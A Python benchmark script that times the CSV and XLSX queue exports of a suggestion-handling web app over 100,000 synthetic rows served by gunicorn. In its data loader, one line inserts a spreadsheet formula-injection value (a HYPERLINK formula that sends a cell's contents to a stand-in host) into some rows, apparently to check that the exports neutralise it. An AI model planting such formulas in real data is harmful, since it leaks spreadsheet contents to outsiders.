"""Time and memory of queue exports (CSV and XLSX, masked and unmasked) with 100,000 rows, served by gunicorn.

Usage: .venv/bin/python -m bench.export [--rows 100000]

Builds a fresh SQLite database through the migrations and bulk-loads open suggestions with realistic texts
(200-400 characters), names and encrypted phone numbers, starts gunicorn (one worker, the project's
gunicorn.conf.py, so its worker timeout) on loopback, and downloads each export of the whole queue.  Prints, per export: wall time,
worker CPU seconds (what the wall time would be on an idle core), rows, size, and the worker's peak resident memory above what it used before the download (sampled every
20 ms from /proc).  Targets: 100,000 rows in <= 30 s with <= 200 MB added memory.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import os
import random
import re
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlencode

from bench.queue_page import PASSWORD, ROOT, SECRETS, WORDS, free_port, login

STATUSES = ("dispatched", "signed", "in_progress", "needs_triage", "replied")


def build_database(path: Path, rows: int) -> None:
    import flask_migrate
    import sqlalchemy as sa

    from app import create_app
    from suggestions import clock
    from suggestions.extensions import db
    from suggestions.models import Campaign, Category, Department, District, StaffUser
    from suggestions.privacy.vault import PhoneVault, mask_phone
    from suggestions.seed import reference_data as seeding
    from suggestions.workflow import Channel, Role

    app = create_app({**SECRETS, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}"})
    with app.app_context():
        flask_migrate.upgrade(directory=str(ROOT / "migrations"))
        seeding.seed_reference_data()
        for username, role in (("dispatcher", Role.DISPATCHER), ("admin", Role.ADMIN)):
            user = StaffUser(username=username, display_name=username, role=role)
            user.set_password(PASSWORD)
            db.session.add(user)
        db.session.commit()
        vault = PhoneVault(SECRETS["PHONE_ENCRYPTION_KEYS"], SECRETS["PHONE_HASH_KEY"])
        departments = db.session.scalars(sa.select(Department.id)).all()
        categories = db.session.scalars(sa.select(Category.id)).all()
        districts = db.session.scalars(sa.select(District.id)).all()
        campaign = db.session.scalar(sa.select(Campaign.id).limit(1))
        rng = random.Random(7)
        now = clock.now()
        table = db.metadata.tables["suggestions"]
        batch = []
        for number in range(rows):
            received = now - timedelta(minutes=rng.randint(0, 60 * 24 * 60))
            phone = "1" + rng.choice("3456789") + "".join(rng.choice("0123456789") for _ in range(9))
            body = "建议" + "，".join(rng.choice(WORDS) for _ in range(rng.randint(60, 130))) + "。"
            if number % 50 == 0:
                body = '=HYPERLINK("http://example.invalid/?"&N2) ' + body  # neutralised in the file
            batch.append(
                {
                    "tracking_code": f"JDZ-{received.year}-{number:010d}",
                    "code_year": received.year,
                    "campaign_id": campaign,
                    "channel": rng.choice(list(Channel)).value,
                    "status": rng.choice(STATUSES),
                    "title": "".join(rng.sample(WORDS, 3)),
                    "body": body,
                    "district_id": rng.choice(districts),
                    "category_id": rng.choice(categories),
                    "department_id": rng.choice(departments),
                    "contact_name": rng.choice("王李张刘陈杨赵黄") + rng.choice(["先生", "女士", "小明", "建国"]),
                    "phone_ciphertext": vault.encrypt(phone),
                    "phone_masked": mask_phone(phone),
                    "access_hash": "x$y",
                    "received_at": received,
                    "created_at": received,
                    "due_at": received + timedelta(days=rng.randint(1, 25)),
                    "urgency": "general",
                    "return_count": 0,
                    "designated": False,
                    "extension_count": 0,
                    "callback_attempts": 0,
                }
            )
            if len(batch) == 5000:
                db.session.execute(sa.insert(table), batch)
                batch = []
        if batch:
            db.session.execute(sa.insert(table), batch)
        db.session.commit()
        with db.engine.connect() as connection:
            connection.exec_driver_sql("ANALYZE")
        db.engine.dispose()


def worker_pid(master: int) -> int:
    for _ in range(100):
        children = Path(f"/proc/{master}/task/{master}/children").read_text().split()
        if children:
            return int(children[0])
        time.sleep(0.1)
    raise RuntimeError("gunicorn started no worker")


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


def cpu_seconds(pid: int) -> float:
    """User + system CPU time of a process so far (wall time on a shared machine depends on the others' load)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def download(opener, url: str, pid: int, data: bytes | None = None) -> tuple[float, float, float, bytes]:
    """Fetch ``url``; return (seconds, worker CPU seconds, peak MB above the worker's memory before, body)."""
    baseline, peak, done = rss_mb(pid), [0.0], threading.Event()
    cpu_before = cpu_seconds(pid)

    def sample():
        while not done.is_set():
            try:
                peak[0] = max(peak[0], rss_mb(pid))
            except (OSError, RuntimeError):  # the worker is gone (killed); the download fails and says so
                return
            time.sleep(0.02)

    sampler = threading.Thread(target=sample)
    sampler.start()
    started = time.perf_counter()
    body = opener.open(url, data).read()
    elapsed = time.perf_counter() - started
    done.set()
    sampler.join()
    cpu = cpu_seconds(pid) - cpu_before
    return elapsed, cpu, max(peak[0] - baseline, 0.0), body


def count_rows(body: bytes, fmt: str) -> int:
    if fmt == "csv":
        return sum(1 for _ in csv.reader(io.StringIO(body.decode("utf-8-sig")))) - 1
    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
    return sum(1 for _ in workbook.active.iter_rows(values_only=True)) - 1


@contextlib.contextmanager
def serving(env: dict):
    """gunicorn with one worker (and the project's gunicorn.conf.py) on loopback: yield (base url, worker pid)."""
    port = free_port()
    server = subprocess.Popen(
        [
            str(Path(sys.executable).parent / "gunicorn"),
            "--workers",
            "1",
            "--bind",
            f"127.0.0.1:{port}",
            "app:create_app()",
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(150):
            try:
                urllib.request.urlopen(base + "/api/health", timeout=1)
                break
            except OSError:
                time.sleep(0.2)
        yield base, worker_pid(server.pid)
    finally:
        server.terminate()
        server.wait(timeout=30)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=100_000)
    args = parser.parse_args()
    workdir = Path(tempfile.mkdtemp(prefix="jdz-bench-export-"))
    database = workdir / "bench.db"
    started = time.perf_counter()
    build_database(database, args.rows)
    print(f"loaded {args.rows} suggestions in {time.perf_counter() - started:.1f} s ({database})")
    env = {
        **os.environ,
        **SECRETS,
        "DATABASE_URL": f"sqlite:///{database}",
        "INSTANCE_PATH": str(workdir),
        "CLASSIFIER_MODEL_PATH": str(workdir / "no-model.joblib"),
        # urllib's cookie jar keeps Secure cookies over https only; this loopback server speaks http.
        "FLASK_SESSION_COOKIE_SECURE": "false",
    }
    print(f"{'export':<28} {'seconds':>8} {'CPU s':>6} {'rows':>8} {'MB file':>8} {'MB added':>9}")
    for label, username, path, unmasked in (
        ("masked CSV (dispatcher)", "dispatcher", "/queue/export.csv", False),
        ("masked XLSX (dispatcher)", "dispatcher", "/queue/export.xlsx", False),
        ("unmasked CSV (admin)", "admin", "/queue/export-unmasked.csv", True),
        ("unmasked XLSX (admin)", "admin", "/queue/export-unmasked.xlsx", True),
    ):
        # A fresh server for each export, so that one export's memory does not hide the next one's.
        with serving(env) as (base, pid):
            opener = login(base, username)
            data = None
            if unmasked:
                page = opener.open(base + "/queue").read().decode()
                token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
                data = urlencode({"csrf_token": token, "export-reason": "性能测试：导出全部在办工单"}).encode()
            seconds, cpu, added, body = download(opener, base + path, pid, data)
        rows = count_rows(body, path.rsplit(".", 1)[1])
        print(f"{label:<28} {seconds:>8.1f} {cpu:>6.1f} {rows:>8} {len(body) / 2**20:>8.1f} {added:>9.1f}", flush=True)
    print("load average (1, 5, 15 min) at the end: " + ", ".join(f"{x:.1f}" for x in os.getloadavg()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
